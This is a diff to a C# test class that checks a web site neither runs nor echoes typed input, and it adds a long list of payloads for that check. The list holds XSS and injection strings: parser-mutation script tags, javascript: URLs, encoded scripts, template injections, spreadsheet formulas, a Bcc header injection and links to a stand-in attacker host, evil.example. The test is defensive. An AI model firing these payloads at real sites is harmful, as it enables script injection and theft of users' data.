@@ -19,6 +19,19 @@ public sealed partial class What_is_typed_is_never_run(SeededSite site) : IClass
         "javascript:alert(1)//http://", "data:text/html,<script>alert(1)</script>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<form action=//evil.example><input name=token>", "<base href=//evil.example/>",
         "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<details open ontoggle=alert(1)>",
         "<template><script>alert(1)</script></template>", "&lt;script&gt;alert(1)&lt;/script&gt;<b>", "\u2028<b onclick=alert(1)>\u2029", "<ǝɯɐɹɟı src=x><b>", "{{constructor.constructor('alert(1)')()}}<b>",
+        // Braces of other languages of pages.
+        "${alert(1)}<b>", "<%= 7*7 %><b>", "@(7*7)<b>", "#{7*7}<b>", "[[${7*7}]]<b>",
+        // What a parser mends into something else.
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>", "<p/onclick=alert(1)//", "<b\fonclick=alert(1)>", "<b\tonclick\t=\talert(1)>", "<!DOCTYPE x><b>", "<![CDATA[<b>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?><b>",
+        // Other elements that fetch, send or draw over.
+        "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<video><source onerror=alert(1)>", "<button formaction=javascript:alert(1)>x</button>", "<a href=\"jav\tascript:alert(1)\">x</a>",
+        "<a href=vbscript:msgbox(1)>x</a>", "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>\"/></svg>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>", "<b style=\"position:fixed;inset:0\">x</b>", "<input autofocus onfocus=alert(1)>",
+        // Out of data that a page carries, and of text in another encoding.
+        "</script><script type=\"application/ld+json\">{}", "\"}</script><b>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b>", "\uFF1Cscript\uFF1Ealert(1)<b>", "%3Cscript%3Ealert(1)%3C/script%3E<b>",
+        // Links of markdown, what a sheet would reckon, a header's next line, what turns the reading, and the end of a text of C.
+        "[x](javascript:alert(1))<b>", "![x](//evil.example/x.png)<b>", "=HYPERLINK(\"//evil.example\")<b>", "\t=1+1<b>", "\uFF1D1+1<b>", "@SUM(1+1)<b>", "x\r\nBcc: evil@evil.example\r\n\r\n<b>", "\u202Egpj.exe<b>\u2066", "x\0<b onclick=alert(1)>",
+        "[Klikk](https://evil.example \"<b>\")",
     ];
 
     [Fact]
@@ -65,12 +78,16 @@ public sealed partial class What_is_typed_is_never_run(SeededSite site) : IClass
     /// <summary>What in an answer would run, or null.</summary>
     static string? Runs(Answer answer, string where, string? typed)
     {
+        if (answer.Status >= 500) return $"{where}: answered {answer.Status} (typed {typed}).";
         if (!answer.HasStrictPolicy) return $"{where}: no policy.";
         if (!answer.IsHtml) return null;
         if (Payloads.FirstOrDefault(payload => payload.Contains('<', StringComparison.Ordinal) && answer.Body.Contains(payload, StringComparison.Ordinal)) is { } echoed) return $"{where}: echoes {echoed} as it was typed.";
         var tag = Tag().Matches(answer.Body).Select(match => match.Value).FirstOrDefault(tag => Dangerous().IsMatch(Value().Replace(tag, "\"\"")) || Leading().IsMatch(tag));
         return tag is null ? null : $"{where}: {tag} (typed {typed})";
     }
+
+    [Fact]
+    public void By_sixty_payloads_of_which_none_is_another() => Assert.InRange(Payloads.Distinct(StringComparer.Ordinal).Count(), 60, Payloads.Length);
 
     [Fact]
     public void The_policy_lets_nothing_run_that_stands_in_a_page()
